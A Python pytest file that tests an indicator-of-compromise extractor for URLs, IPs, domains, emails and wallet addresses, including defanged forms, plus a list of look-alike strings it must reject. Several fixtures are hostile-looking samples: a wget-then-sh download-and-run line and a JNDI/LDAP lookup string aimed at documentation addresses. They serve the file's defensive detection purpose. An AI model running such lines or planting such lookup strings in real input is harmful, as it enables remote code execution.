# SPDX-License-Identifier: Apache-2.0
"""Indicators are found in all the ways in which people and programs write them, and little else is."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mead.analysis.indicators import find, is_cited, refang


def _found(text: bytes) -> set[tuple[str, str]]:
    return {(i.indicator_kind, i.indicator) for i in find(text)}


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        (b"wget http://192.0.2.1/a.sh; sh a.sh", "url", "http://192.0.2.1/a.sh"),
        (b"see hxxps://bad[.]example[.]com/x?y=1.", "url", "https://bad.example.com/x?y=1"),
        (b"(http://a.example.org/p(1))", "url", "http://a.example.org/p(1)"),
        (b"ftp://user:pw@192.0.2.9/x", "url", "ftp://user:pw@192.0.2.9/x"),
        (b"c2 at 203.0.113[.]77 port 23", "ip", "203.0.113.77"),
        (b"host 203.0.113.5:48101", "ip", "203.0.113.5"),
        (b"resolve evil-host(.)info now", "domain", "evil-host.info"),
        (b"stratum+tcp://pool.example.net:3333", "url", "stratum+tcp://pool.example.net:3333"),
        (b"mail to someone@mail.example.com!", "email", "someone@mail.example.com"),
        (b"pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now", "wallet.bitcoin",
        "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"),
        (b"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "wallet.bitcoin",
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"),
        (b"hxxps[://]evil[.]example[.]com/a", "url", "https://evil.example.com/a"),
        (b"h**p://203.0.113.9/x", "url", "http://203.0.113.9/x"),
        (b'{"u":"http:\\/\\/203.0.113.9\\/x"}', "url", "http://203.0.113.9/x"),
        (b"next=http%3A%2F%2F203.0.113.9%2Fx&a=1", "url", "http://203.0.113.9/x"),
        (b"http://3405803785/x", "url", "http://3405803785/x"),
        (b"http://[2001:db8::7]:8080/x", "url", "http://[2001:db8::7]:8080/x"),
        (b"${jndi:ldap://203.0.113.9:1389/a}", "url", "ldap://203.0.113.9:1389/a"),
        (b"connect 2001:db8:0:1::7 now", "ip", "2001:db8:0:1::7"),
        (b"dns 8.8.8.8", "ip", "8.8.8.8"),
        (b"to 5.2.3.4:23", "ip", "5.2.3.4"),
        (b"to 5[.]2[.]3[.]4", "ip", "5.2.3.4"),
        (b"evil[.]info", "domain", "evil.info"),
        (b"www.evil.info", "domain", "www.evil.info"),
        (b"gate-7.top and more", "domain", "gate-7.top"),
        (b"someone[@]mail[.]example[.]com", "email", "someone@mail.example.com"),
        (b"to 0x52908400098527886E0F7030069857D2E4169EE7.", "wallet.ethereum",
        "0x52908400098527886E0F7030069857D2E4169EE7"),
    ],
)  # fmt: skip
def test_found(text: bytes, kind: str, value: str) -> None:
    assert (kind, value) in _found(text)


@pytest.mark.parametrize(
    "text",
    [
        b"version 1.2.3.4.5", b"127.0.0.1 and 0.0.0.0 and 255.255.255.255", b"999.1.1.1",
        b"libfoo.so and run.sh",
        b"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", b"0x0000000000000000000000000000000000000000",
        b"http:// nothing", b"http://%s:%d/x", b"http://$A/bins/x", b"http://host/x", b"http://127.0.0.1/x",
        b"version 10.21.33.44", b"Firefox/103.45.67.89", b"oid 2.5.29.35 and 1.3.6.1", b"1.4.0.7",
        b"10.20.30.0/24 and 192.168.0.0", b"libc-2.31.100.44", b"12:30:45:01 std::dead::beef", b"2002::/16",
        b"java.vm.name user.info end.as item.store", b"makeskel-3.2.2.mo", b"www.example and x.arpa",
        b"chacha20-poly1305@openssh.com", b"see www.w3.org",
        b"0x52908400098527886E0F7030069857D2E4169eE7",
        b"4" + b"8" * 94,
        b"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", b"a.b",
    ],
)  # fmt: skip
def test_not_found(text: bytes) -> None:
    assert not _found(text)


def test_a_schema_is_cited_and_a_host_that_only_looks_like_it_is_not() -> None:
    assert is_cited("http://www.w3.org/2000/svg")
    assert is_cited("http://schemas.microsoft.com/winfx")
    assert not is_cited("http://www.w3.org@203.0.113.7/x")
    assert not is_cited("http://www.w3.org.example.com/x")


def test_offsets_point_at_the_text() -> None:
    (indicator, *_) = find(b"....http://192.0.2.1/a", base=100)
    assert indicator.offset == 104


def test_refang() -> None:
    assert refang("hxxp://a[dot]b(.)c[:]80") == "http://a.b.c:80"


@given(st.binary(max_size=2000))
def test_any_bytes_give_encodable_text(data: bytes) -> None:
    for indicator in find(data):
        indicator.indicator.encode()
